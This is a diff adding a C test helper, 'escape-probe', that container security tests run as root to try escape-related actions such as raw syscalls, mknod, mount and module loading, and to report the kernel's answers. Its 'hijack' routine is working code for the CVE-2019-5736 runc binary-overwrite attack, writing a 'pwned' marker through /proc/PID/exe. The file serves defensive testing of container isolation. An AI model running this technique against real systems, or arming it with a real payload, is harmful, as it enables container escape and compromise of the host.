@@ -1,0 +1,142 @@
+/*
+ * escape-probe: what the security tests run as root inside a container. Each command makes one
+ * attempt and prints "ok ..." or "err <errno>", so tests assert on the exact kernel answer.
+ * Nothing here acts on what it reaches: sysrq-trigger is only opened (never written), modules are
+ * never real (finit_module of a non-module file), devices are only read (a few bytes).
+ *
+ *   openw PATH                 open(O_WRONLY)
+ *   read PATH N                read N bytes; prints "ok <count> <hex of the first bytes>"
+ *   syscall NR [ARG...]        raw syscall with integer arguments (-1 etc.)
+ *   finit PATH                 finit_module(open(PATH), "", 0)
+ *   mknod PATH b|c MAJ MIN     mknod(S_IFBLK/S_IFCHR | 0600)
+ *   mount SRC TARGET FSTYPE    mount(SRC, TARGET, FSTYPE, MS_RDONLY); umounts again on success
+ *   fds                        every open descriptor and where it points, then cwd and root
+ *   hijack FIFO OUT            the CVE-2019-5736 attack on a helper blocked opening FIFO (see below)
+ */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/sysmacros.h>
+#include <time.h>
+#include <unistd.h>
+
+static int result(long rc) {
+    if (rc < 0) { printf("err %d\n", errno); return 1; }
+    printf("ok %ld\n", rc);
+    return 0;
+}
+
+static void sleep_ms(int ms) { struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L }; nanosleep(&ts, NULL); }
+
+/* The CVE-2019-5736 attack: find the helper process whose command line names FIFO (it blocks
+ * opening it), hold /proc/PID/exe, let it die by opening the FIFO, then reopen the held exe for
+ * writing and write to it. Prints what exe pointed to and what the write attempts got. */
+static int hijack(const char *fifo) {
+    for (int tries = 0; tries < 2000; tries++, sleep_ms(5)) {
+        DIR *d = opendir("/proc");
+        struct dirent *e;
+        while (d && (e = readdir(d))) {
+            int pid = atoi(e->d_name);
+            if (pid <= 1 || pid == getpid()) continue;
+            char path[64], cmd[4096] = "";
+            snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
+            int cfd = open(path, O_RDONLY);
+            if (cfd < 0) continue;
+            ssize_t n = read(cfd, cmd, sizeof cmd - 1);
+            close(cfd);
+            for (ssize_t i = 0; i < n; i++) if (!cmd[i]) cmd[i] = ' ';
+            if (n <= 0 || !strstr(cmd, fifo) || strstr(cmd, "hijack")) continue;
+            snprintf(path, sizeof path, "/proc/%d/exe", pid);
+            char target[4096] = "";
+            ssize_t t = readlink(path, target, sizeof target - 1);
+            if (t > 0) target[t] = '\0';
+            printf("exe %s\n", target);
+            int exe = open(path, O_PATH);
+            printf("hold %s\n", exe < 0 ? strerror(errno) : "ok");
+            int direct = open(path, O_WRONLY);
+            printf("openw-while-running %d\n", direct < 0 ? errno : 0);
+            if (direct >= 0) { printf("write-while-running %d\n", write(direct, "pwned", 5) < 0 ? errno : 0); close(direct); }
+            int w = open(fifo, O_WRONLY); /* releases the helper: it reads an empty spec and dies */
+            if (w >= 0) close(w);
+            for (int i = 0; i < 2000 && kill(pid, 0) == 0; i++) sleep_ms(5);
+            if (exe >= 0) {
+                char again[64];
+                snprintf(again, sizeof again, "/proc/self/fd/%d", exe);
+                int fd = open(again, O_WRONLY);
+                printf("openw-after-exit %d\n", fd < 0 ? errno : 0);
+                if (fd >= 0) { printf("write-after-exit %d\n", write(fd, "pwned", 5) < 0 ? errno : 0); close(fd); }
+            }
+            fflush(stdout);
+            return 0;
+        }
+        if (d) closedir(d);
+    }
+    printf("no helper process seen\n");
+    return 1;
+}
+
+int main(int argc, char **argv) {
+    setvbuf(stdout, NULL, _IONBF, 0);
+    if (argc < 2) { fprintf(stderr, "usage: see the source\n"); return 2; }
+    const char *c = argv[1];
+    if (!strcmp(c, "openw") && argc == 3) return result(open(argv[2], O_WRONLY | O_CLOEXEC));
+    if (!strcmp(c, "read") && argc == 4) {
+        int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
+        if (fd < 0) return result(-1);
+        unsigned char buf[64];
+        size_t want = (size_t)atoi(argv[3]);
+        ssize_t n = read(fd, buf, want < sizeof buf ? want : sizeof buf);
+        if (n < 0) return result(-1);
+        printf("ok %zd ", n);
+        for (ssize_t i = 0; i < n && i < 4; i++) printf("%02x", buf[i]);
+        printf("\n");
+        return 0;
+    }
+    if (!strcmp(c, "syscall") && argc >= 3) {
+        long a[6] = { 0 };
+        for (int i = 3; i < argc && i < 9; i++) a[i - 3] = strtol(argv[i], NULL, 0);
+        return result(syscall(strtol(argv[2], NULL, 0), a[0], a[1], a[2], a[3], a[4], a[5]));
+    }
+    if (!strcmp(c, "finit") && argc == 3) {
+        int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
+        if (fd < 0) return result(-1);
+        return result(syscall(SYS_finit_module, fd, "", 0));
+    }
+    if (!strcmp(c, "mknod") && argc == 6)
+        return result(mknod(argv[2], (argv[3][0] == 'b' ? S_IFBLK : S_IFCHR) | 0600, makedev(atoi(argv[4]), atoi(argv[5]))));
+    if (!strcmp(c, "mount") && argc == 5) {
+        int rc = mount(argv[2], argv[3], argv[4], MS_RDONLY, NULL);
+        if (rc == 0) umount2(argv[3], MNT_DETACH);
+        return result(rc);
+    }
+    if (!strcmp(c, "fds")) {
+        DIR *d = opendir("/proc/self/fd");
+        struct dirent *e;
+        while (d && (e = readdir(d))) {
+            if (e->d_name[0] == '.' || atoi(e->d_name) == dirfd(d)) continue;
+            char p[300], t[4096] = "";
+            snprintf(p, sizeof p, "/proc/self/fd/%s", e->d_name);
+            ssize_t n = readlink(p, t, sizeof t - 1);
+            if (n > 0) t[n] = '\0';
+            printf("fd %s %s\n", e->d_name, t);
+        }
+        char cwd[4096] = "", root[4096] = "";
+        ssize_t n = readlink("/proc/self/cwd", cwd, sizeof cwd - 1);
+        if (n > 0) cwd[n] = '\0';
+        n = readlink("/proc/self/root", root, sizeof root - 1);
+        if (n > 0) root[n] = '\0';
+        printf("cwd %s\nroot %s\n", cwd, root);
+        return 0;
+    }
+    if (!strcmp(c, "hijack") && argc == 3) return hijack(argv[2]);
+    fprintf(stderr, "escape-probe: bad command\n");
+    return 2;
+}
